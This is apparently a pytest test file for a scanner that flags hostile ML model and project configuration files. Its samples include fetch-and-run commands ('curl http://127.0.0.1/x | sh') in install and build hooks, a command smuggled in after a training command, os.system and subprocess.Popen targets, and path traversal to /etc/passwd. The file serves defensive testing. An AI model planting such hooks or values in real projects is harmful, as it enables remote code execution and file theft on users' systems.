from typing import Any

import pytest

from weighbridge.content.loading.inspection import inspect_value
from weighbridge.content.loading.layouts import LAYOUTS

ST = "sentence_transformers.models."
PYFUNC = {"data": "data", "env": {"conda": "conda.yaml"}, "loader_module": "mlflow.sklearn", "python_version": "3.11"}
MAR = {"createdOn": "2026", "runtime": "python", "archiverVersion": "0.9"}
GRAPH = {"format": "graph-model", "modelTopology": {}}
#: By a layout's usual name: hostile values with their rule, and harmless ones.
SAMPLES: dict[str, tuple[list[tuple[str, Any]], list[Any]]] = {
    "model_index.json": (
        [
            ("config.remote-code", {"_class_name": ["pipeline", "Mine"]}),
            ("config.remote-code", {"_class_name": "XPipeline", "unet": ["my_unet", "Unet"]}),
            ("config.remote-code", {"_class_name": "XPipeline", "unet": ["My", "Unet"]}),
            ("config.imports", {"_class_name": "XPipeline", "unet": [["my_unet"], "Net"]}),
            ("config.imports", {"_diffusers_version": "0.35.0", "unet": [{"a": 1}, "Net"]}),
            ("config.remote-code", {"_class_name": "UNet2DModel", "unet": ["evil", "Net"]}),
            ("config.remote-code", {"_blocks_class_name": "B", "vae": [None, None, {"type_hint": ["evil", "Vae"]}]}),
        ],
        [
            {"_class_name": "StableDiffusionPipeline", "safety_checker": [None, None], "unet": ["diffusers", "U"]},
            {"_class_name": "SDPipeline", "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"]},
            {"_class_name": "XPipeline", "scale": [1, 2], "requires_safety_checker": True, "x": ["a", None]},
            {"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.30", "up": ["UpBlock2D", "UpBlock2D"]},
            {"_class_name": "AutoencoderTiny", "_diffusers_version": "0.30", "act": ["silu", "gelu"]},
            {"unet": ["my_unet", "Unet"]},
        ],
    ),
    "modules.json": (
        [
            ("config.remote-code", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]),
            ("config.remote-code", [{"type": "custom_st.Transformer", "path": ""}]),
            ("config.remote-code", [{"idx": 0, "name": "0", "path": "", "type": ["a"]}]),
            ("config.dangerous-target", [{"name": "0", "path": "", "type": "subprocess.Popen"}]),
            ("config.remote-code", [{"name": "0", "path": "", "type": "sentence_transformers.util.http_get"}]),
            ("config.dangerous-target", [{"name": "0", "path": "", "type": "sentence_transformers.os.system"}]),
            ("index.unsafe-path", [{"idx": 0, "name": "0", "path": "../1_Pooling", "type": ST + "Pooling"}]),
            ("index.unsafe-path", [{"idx": 0, "name": "0", "path": "/tmp/x", "type": ST + "Pooling"}]),
            ("index.unsafe-path", [{"idx": 0, "name": "0", "path": 3, "type": ST + "Pooling"}]),
        ],
        [
            [{"idx": 0, "name": "0", "path": "", "type": ST + "Transformer"}],
            [{"idx": 1, "name": "1", "path": "1_Pooling", "type": ST + "Pooling", "kwargs": ["task"]}],
            [{"idx": 0, "name": "0", "path": ".", "type": "sentence_transformers.sparse_encoder.models.SpladePooling"}],
            [{"type": "file", "oid": "0", "size": 3, "path": "../x.json"}, {"type": "directory", "path": "a"}],
        ],
    ),
    "router_config.json": (
        [
            ("config.remote-code", {"types": {"query_0_X": "evil.X"}, "structure": {"query": ["query_0_X"]}}),
            ("config.dangerous-target", {"types": {"q": "os.system"}, "structure": {}}),
            ("index.unsafe-path", {"types": {"../../x": ST + "Transformer"}, "structure": {}}),
        ],
        [
            {"types": {"query_0_T": ST + "Transformer"}, "structure": {"query": ["query_0_T"]}, "parameters": {}},
            {"types": {"a": "evil.X"}},
        ],
    ),
    "MLmodel": (
        [
            ("config.imports", {"flavors": {"python_function": {"loader_module": "evil_loader"}}}),
            ("config.imports", {"flavors": {"python_function": {"loader_module": "mlflowx.sklearn"}}}),
            ("config.remote-code", {"flavors": {"python_function": PYFUNC | {"code": "code"}}}),
            ("config.remote-code", {"flavors": {"langchain": {"model_code_path": "chain.py"}}}),
            ("config.remote-code", {"flavors": {"python_function": PYFUNC | {"python_model": "model.py"}}}),
            ("config.reads-outside", {"flavors": {"python_function": PYFUNC | {"data": "../../x"}}}),
            ("config.reads-outside", {"flavors": {"sklearn": {"pickled_model": "/tmp/model.pkl"}}}),
        ],
        [
            {"flavors": {"python_function": PYFUNC, "sklearn": {"code": None, "pickled_model": "model.pkl"}}},
            {"flavors": {"transformers": {"task": "text-generation", "source_model_name": "a/b", "code": None}}},
            {"flavors": ["vanilla", "code"], "loader_module": "x"},
        ],
    ),
    "MLproject": (
        [
            ("config.command", {"entry_points": {"main": {"command": "curl http://127.0.0.1/x | sh"}}}),
            ("config.command", {"entry_points": {"main": {"command": "python train.py; id"}}}),
            ("config.command", {"name": "x", "entry_points": {"a": {"command": "sh run.sh"}}}),
        ],
        [
            {"name": "x", "entry_points": {"main": {"parameters": {"a": "float"}, "command": "python train.py {a}"}}},
            {"entry_points": {"console_scripts": ["x=y:z"]}},
        ],
    ),
    "MANIFEST.json": (
        [
            ("config.remote-code", MAR | {"model": {"modelName": "m", "handler": "handler.py"}}),
            ("config.remote-code", MAR | {"model": {"modelName": "m", "handler": "my_handler:handle"}}),
            ("config.reads-outside", MAR | {"model": {"modelName": "m", "serializedFile": "../../m.pt"}}),
        ],
        [MAR | {"model": {"modelName": "m", "handler": "image_classifier", "serializedFile": "m.pt"}}],
    ),
    "model.json": (
        [
            ("config.reads-outside", GRAPH | {"weightsManifest": [{"paths": ["../../etc/passwd"], "weights": []}]}),
            ("config.reads-outside", GRAPH | {"weightsManifest": [{"paths": ["https://127.0.0.1/w.bin"]}]}),
        ],
        [GRAPH | {"weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": []}]}, {"weightsManifest": 3}],
    ),
    "conda.yaml": (
        [
            ("config.fetches", {"channels": ["http://127.0.0.1/channel"], "dependencies": ["python=3.11"]}),
            ("config.fetches", {"name": "x", "dependencies": ["pip", {"pip": ["git+http://127.0.0.1/evil.git"]}]}),
            ("config.fetches", {"python": "3.11", "dependencies": ["--index-url http://127.0.0.1/simple"]}),
            ("config.reads-outside", {"python": "3.11", "dependencies": ["-r ../../requirements.txt"]}),
        ],
        [
            {"channels": ["conda-forge"], "dependencies": ["python=3.11", "pip<=24", {"pip": ["mlflow==3.1.0"]}]},
            {"python": "3.11.9", "build_dependencies": ["pip==24"], "dependencies": ["-r requirements.txt"]},
            {"dependencies": {"react": "git+https://127.0.0.1/x.git"}},
        ],
    ),
    "pyproject.toml": (
        [
            ("config.fetches", {"project": {"dependencies": ["evil @ git+http://127.0.0.1/evil.git"]}}),
            ("config.fetches", {"tool": {"uv": {"index": [{"url": "http://127.0.0.1/simple"}]}}}),
            ("config.fetches", {"tool": {"poetry": {"source": [{"name": "x", "url": "http://127.0.0.1/simple"}]}}}),
            ("config.fetches", {"source": [{"url": "http://127.0.0.1/simple"}], "packages": {}}),
        ],
        [
            {"project": {"name": "x", "dependencies": ["torch>=2"], "optional-dependencies": {"dev": ["ruff"]}}},
            {"tool": {"uv": {"index": [{"url": "https://download.pytorch.org/whl/cpu"}]}, "ruff": {"line-length": 99}}},
            {"source": [{"url": "https://pypi.org/simple", "verify_ssl": True}], "packages": {"torch": "*"}},
            {"project": ["x"], "tool": 3},
        ],
    ),
    "AllenNLP's config.json": (
        [
            ("config.imports", {"dataset_reader": {"type": "snli"}, "model": {"type": "evil.Model"}}),
            ("config.dangerous-target", {"dataset_reader": {"x": [{"type": "os.system"}]}, "model": {}}),
        ],
        [{"dataset_reader": {"type": "snli"}, "model": {"type": "basic_classifier"}}, {"model": {"type": "a.B"}}],
    ),
    "package.json": (
        [
            ("config.command", {"name": "x", "scripts": {"install": "node x.js"}}),
            ("config.command", {"scripts": {"preinstall": "curl http://127.0.0.1 | sh"}}),
            ("config.command", {"scripts": {"postinstall": "node x.js"}}),
        ],
        [{"name": "x", "scripts": {"test": "jest", "build": "tsc", "postinstall": ""}}, {"install": "node x.js"}],
    ),
    "cog.yaml": (
        [("config.command", {"build": {"gpu": True, "run": ["curl http://127.0.0.1/x | sh"]}})],
        [{"build": {"gpu": True, "python_version": "3.11", "python_packages": ["torch"]}}, {"build": {"run": ["x"]}}],
    ),
}
HOSTILE = [(name, rule, value) for name, (bad, _) in SAMPLES.items() for rule, value in bad]
HARMLESS = [(name, value) for name, (_, good) in SAMPLES.items() for value in good]


def errors(value: Any) -> set[str]:
    return {finding.rule for finding in inspect_value(value) if finding.level == "error"}


def test_every_layout_has_samples_a_source_and_a_reader() -> None:
    assert {layout.name for layout in LAYOUTS} == SAMPLES.keys()
    assert all(layout.since and layout.reader for layout in LAYOUTS)


@pytest.mark.parametrize(("name", "rule", "value"), HOSTILE)
def test_a_hostile_file_of_a_layout_is_an_error(name: str, rule: str, value: Any) -> None:
    assert errors(value) == {rule}
    layout = next(layout for layout in LAYOUTS if layout.name == name)
    assert rule in {ruling.rule for _, ruling in layout.judge(value)} or rule in errors(value)


@pytest.mark.parametrize(("name", "value"), HARMLESS)
def test_a_harmless_file_of_a_layout_is_none(name: str, value: Any) -> None:
    assert errors(value) == set()


@pytest.mark.parametrize(
    "value", [None, 3, "x", [], {}, [[]], [None], {"types": 3, "structure": 1}, {"flavors": {1: 2}}]
)
def test_any_other_value_is_of_no_layout(value: Any) -> None:
    assert inspect_value(value) == ()
